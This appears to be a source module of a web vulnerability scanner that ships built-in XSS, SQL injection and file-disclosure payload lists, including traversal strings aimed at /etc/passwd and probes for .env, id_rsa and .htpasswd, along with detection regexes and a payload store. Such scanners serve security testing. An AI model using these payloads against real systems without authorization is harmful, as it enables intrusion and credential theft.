"""Built-in payload catalog, custom payload files and the payload arena."""

import logging
import re
from collections.abc import Iterator
from pathlib import Path

from mutascan.errors import ConfigError
from mutascan.modules.models import Payload

logger = logging.getLogger(__name__)

CATEGORIES = ("xss", "sqli", "file", "custom")

XSS_PAYLOADS = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcLiCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/"
    "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "<svg/onload=alert()//>",
    "<img src=x onerror=alert()>",
    "</script><script>alert()</script>",
    '" onmouseover="alert()',
    "`${alert()}`",
    "\\u003cscript\\u003ealert()\\u003c/script\\u003e",
    "javascript:alert()//",
    "'-alert()-'",
    "<a id=x name=y href=1></a><a id=x name=z href=javascript:alert()></a>",
)

SQLI_PAYLOADS = (
    "' OR '1'='1'--",
    "' OR SLEEP(5)--",
    "'; SELECT pg_sleep(5)--",
    "' UNION SELECT NULL,NULL,NULL--",
    "'; WAITFOR DELAY '0:0:5'--",
    "' AND '1'='1",
    "%27%20OR%20%271%27%3D%271",
    "'/**/OR/**/1=1--",
    "' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version())))--",
    "1'/*!50000UNION*//*!50000SELECT*/1,2,3--",
)

# Relative paths tried next to every discovered directory, then traversal
# values for file-like parameters.
FILE_PAYLOADS = (
    ".env",
    ".git/config",
    ".htpasswd",
    "config.php.bak",
    "wp-config.php.bak",
    "backup.sql",
    "database.yml",
    "id_rsa",
    "../../../../etc/passwd",
    "....//....//....//....//etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
)

_PREFIX = re.compile(r"^(xss|sqli|file|custom):", re.IGNORECASE)
_SQLI_HINT = re.compile(
    r"(\bunion\b|\bselect\b|\bsleep\s*\(|\bwaitfor\b|pg_sleep|benchmark\s*\(|"
    r"'\s*(or|and)\s|--\s*$|/\*)",
    re.IGNORECASE,
)
_XSS_HINT = re.compile(r"(<\s*[a-z/!]|on[a-z]+\s*=|javascript:|alert\(|prompt\(|confirm\()", re.I)
_FILE_HINT = re.compile(
    r"(\.\./|\.\.%2f|etc/passwd|win\.ini|^\.env$|^\.git/|\.bak$|\.sql$|\.htpasswd)", re.I
)


def is_traversal(template: str) -> bool:
    """Whether a file payload climbs directories rather than naming a file."""
    lowered = template.lower()
    return lowered.startswith("..") or "%2f" in lowered


def infer_category(payload: str) -> str:
    """Guess the category of an unprefixed custom payload."""
    if _FILE_HINT.search(payload):
        return "file"
    if _XSS_HINT.search(payload):
        return "xss"
    if _SQLI_HINT.search(payload):
        return "sqli"
    return "custom"


def parse_payload_line(line: str) -> tuple[str, str] | None:
    """Return ``(category, payload)`` for one payload file line, or None to skip it."""
    entry = line.strip()
    if not entry or entry.startswith("#"):
        return None
    match = _PREFIX.match(entry)
    if match:
        payload = entry[match.end() :].strip()
        return (match.group(1).lower(), payload) if payload else None
    return infer_category(entry), entry


def load_payload_file(path: str | Path) -> list[tuple[str, str]]:
    try:
        text = Path(path).read_text(encoding="utf-8", errors="replace")
    except OSError as exc:
        raise ConfigError(f"cannot read payload file {path}: {exc.strerror or exc}") from exc
    entries = [parsed for line in text.splitlines() if (parsed := parse_payload_line(line))]
    if not entries:
        logger.warning("No payloads loaded from %s", path)
    return entries


def builtin_payloads() -> list[tuple[str, str]]:
    entries = [("xss", item) for item in XSS_PAYLOADS]
    entries.extend(("sqli", item) for item in SQLI_PAYLOADS)
    entries.extend(("file", item) for item in FILE_PAYLOADS)
    return entries


class PayloadArena:
    """Flat store of payloads; lineage is kept as parent indices.

    A ``(category, template)`` pair is stored once, so two derivations that
    end in the same string share an entry.
    """

    def __init__(self):
        self._items: list[Payload] = []
        self._index: dict[tuple[str, str], int] = {}

    def add(
        self,
        category: str,
        template: str,
        parent: int | None = None,
        transform: str | None = None,
    ) -> Payload:
        if category not in CATEGORIES:
            raise ValueError(f"Unknown payload category '{category}'")
        existing = self._index.get((category, template))
        if existing is not None:
            return self._items[existing]
        payload = Payload(
            id=len(self._items),
            category=category,
            template=template,
            parent=parent,
            transform=transform,
        )
        self._items.append(payload)
        self._index[(category, template)] = payload.id
        return payload

    def __len__(self) -> int:
        return len(self._items)

    def __iter__(self) -> Iterator[Payload]:
        return iter(self._items)

    def __getitem__(self, payload_id: int) -> Payload:
        return self._items[payload_id]

    def roots(self) -> list[Payload]:
        return [item for item in self._items if item.parent is None]

    def children(self, payload_id: int) -> list[Payload]:
        return [item for item in self._items if item.parent == payload_id]

    def lineage(self, payload_id: int) -> list[Payload]:
        """Payloads from the base entry down to ``payload_id``."""
        chain = [self._items[payload_id]]
        while chain[-1].parent is not None:
            chain.append(self._items[chain[-1].parent])
        return list(reversed(chain))

    def root_of(self, payload_id: int) -> int:
        return self.lineage(payload_id)[0].id

    def by_category(self, *categories: str) -> list[Payload]:
        return [item for item in self._items if item.category in categories]


def load_catalog(
    custom_file: str | Path | None = None,
    replace: bool = False,
) -> list[tuple[str, str]]:
    """Built-in payloads extended (or replaced) by a custom payload file."""
    entries = [] if (replace and custom_file) else builtin_payloads()
    if custom_file:
        entries.extend(load_payload_file(custom_file))
    if not entries:
        raise ConfigError("payload catalog is empty")
    return entries
